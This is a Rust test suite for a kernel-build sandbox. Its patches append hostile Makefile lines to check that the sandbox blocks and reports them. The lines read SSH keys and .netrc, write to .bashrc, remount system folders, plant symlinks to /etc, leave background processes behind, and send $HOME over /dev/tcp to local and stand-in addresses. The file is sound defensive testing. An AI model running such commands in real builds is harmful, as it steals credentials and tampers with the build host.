//! Series whose Makefile does what a build must not: nothing comes of it, and the lab says what was tried. Real make in the real sandbox.

use std::io::ErrorKind;
use std::net::TcpListener;

use super::*;

/// A home with a secret, and a series that adds lines to the end of the Makefile, which run when the kernel is made.
struct Attacked {
    lab: KernelLab,
    home: PathBuf,
}

const SECRET: &str = "a secret";

impl Attacked {
    fn new() -> Self {
        let lab = KernelLab::new();
        let home = lab.folder.path().join("home");
        fs::create_dir_all(home.join(".ssh")).unwrap();
        for name in [".ssh/id_rsa", "diary", ".bashrc"] {
            fs::write(home.join(name), SECRET).unwrap();
        }
        lab.sh.set_var("HOME", &home);
        Attacked { lab, home }
    }

    /// Builds with these commands, once, and gives what came of it with what the lab said of attempts.
    fn build(&self, commands: &[&str]) -> (anyhow::Result<Kernel>, String) {
        let makefile =
            fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/kernel/Makefile"))
                .unwrap();
        let (line, last) = (makefile.lines().count(), makefile.lines().last().unwrap());
        let added: String = commands.iter().map(|command| format!("+\t{command}\n")).collect();
        let count = 1 + commands.len();
        let patch =
            format!("--- a/Makefile\n+++ b/Makefile\n@@ -{line},1 +{line},{count} @@\n {last}\n{added}");
        self.lab.said.take();
        let built = self.lab.build(&[series("s", &[&patch])]);
        let said = self.lab.said.take();
        assert!(said.join("\n").contains("sandbox: bwrap"), "there is no sandbox on this machine: {said:?}");
        let home = self.home.display().to_string();
        let about =
            said.iter().filter(|line| line.contains("its build")).map(|line| line.replace(&home, "HOME"));
        (built, about.collect::<Vec<_>>().join("\n"))
    }

    /// What is in the folder of the build.
    fn object(&self, name: &str) -> String {
        fs::read_to_string(self.lab.objects().join(name)).unwrap()
    }
}

#[test]
fn an_honest_build_tries_nothing() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@touch $(O)/of-its-own /tmp/passing"]);
    built.unwrap();
    assert_eq!(said, "");
    assert!(!Path::new("/tmp/passing").exists());
}

#[test]
fn a_secret_in_the_home_is_not_read() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@cat $(HOME)/.ssh/id_rsa >$(O)/stolen 2>/dev/null || true"]);
    built.unwrap();
    expect!["kernel v: its build opened .ssh/id_rsa in the home folder, where decoys lie; look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    assert!(!attacked.object("stolen").contains(SECRET));
    // One that no decoy has the name of, as it is called outside.
    let attacked = Attacked::new();
    let command = format!("@cat {}/diary >$(O)/stolen", attacked.home.display());
    let (built, said) = attacked.build(&[&command]);
    let error = format!("{:#}", built.unwrap_err());
    assert!(error.contains("home/diary: No such file or directory"), "{error}");
    expect!["kernel v: its build was refused files outside of its folder (cat: HOME/diary: No such file or directory); look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    assert_eq!(attacked.object("stolen"), "");
}

#[test]
fn nothing_is_written_outside() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@echo evil >>$(HOME)/.bashrc"]);
    built.unwrap();
    expect!["kernel v: its build wrote .bashrc into the home folder, which is not the real one; look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    assert_eq!(fs::read_to_string(attacked.home.join(".bashrc")).unwrap(), SECRET);
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@touch /usr/patchlab-was-here"]);
    let error = format!("{:#}", built.unwrap_err());
    assert!(error.contains("make bzImage: "), "{error}");
    expect!["kernel v: its build was refused files outside of its folder (touch: cannot touch '/usr/patchlab-was-here': Read-only file system); look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    assert!(!Path::new("/usr/patchlab-was-here").exists());
}

/// Root may do so where nobody takes the right from it.
#[test]
fn what_is_read_only_stays_so() {
    let attacked = Attacked::new();
    let (built, _) = attacked.build(&[
        "@mount -o remount,bind,rw /usr 2>/dev/null || true",
        "@mount -o remount,rw / 2>/dev/null || true",
        "@touch /usr/patchlab-was-there",
    ]);
    built.unwrap_err();
    assert!(!Path::new("/usr/patchlab-was-there").exists());
}

#[test]
fn planted_links_are_removed() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@ln -sf /etc/passwd $(O)/notes", "@ln -sf $(srctree) $(O)/source"]);
    built.unwrap();
    expect!["kernel v: its build made links that lead out of its folder, which were removed (notes -> /etc/passwd); look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    let there = |name: &str| fs::symlink_metadata(attacked.lab.objects().join(name)).is_ok();
    assert!(!there("notes") && there("source"));
}

#[test]
fn no_connection_is_made() {
    let attacked = Attacked::new();
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let to = |address: &str| format!("@bash -c 'echo $$HOME >/dev/tcp/{address}' 2>/dev/null || true");
    let (built, said) = attacked.build(&[&to(&format!("127.0.0.1/{port}")), &to("192.0.2.1/80")]);
    built.unwrap();
    expect!["kernel v: its build asked 2 times for the network, which is not there; look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    assert_eq!(host.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
}

#[test]
fn no_process_outlives_the_build() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&["@setsid sleep 987654 >/dev/null 2>&1 </dev/null &"]);
    built.unwrap();
    expect!["kernel v: its build left processes behind, which were ended (sleep); look at the Makefiles and scripts of its series"]
        .assert_eq(&said);
    let begun = std::time::Instant::now();
    while !working_in(attacked.lab.folder.path()).is_empty() {
        assert!(begun.elapsed().as_secs() < 60, "these go on: {:?}", working_in(attacked.lab.folder.path()));
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

/// All of a series' attempts are in one sentence, also if the build fails.
#[test]
fn several_attempts_of_a_build_that_fails() {
    let attacked = Attacked::new();
    let (built, said) = attacked.build(&[
        "@cat $(HOME)/.netrc $(HOME)/.ssh/id_rsa >/dev/null",
        "@setsid sleep 987654 >/dev/null 2>&1 </dev/null &",
        "@ln -sf ../../../../../../../etc $(O)/x",
        "@exit 3",
    ]);
    built.unwrap_err();
    expect![[r#"
        kernel v: its build opened .netrc, .ssh/id_rsa in the home folder, where decoys lie; it left processes behind, which were ended (sleep); it made links that lead out of its folder, which were removed (x -> ../../../../../../../etc); look at the Makefiles and scripts of its series"#]]
    .assert_eq(&said);
}
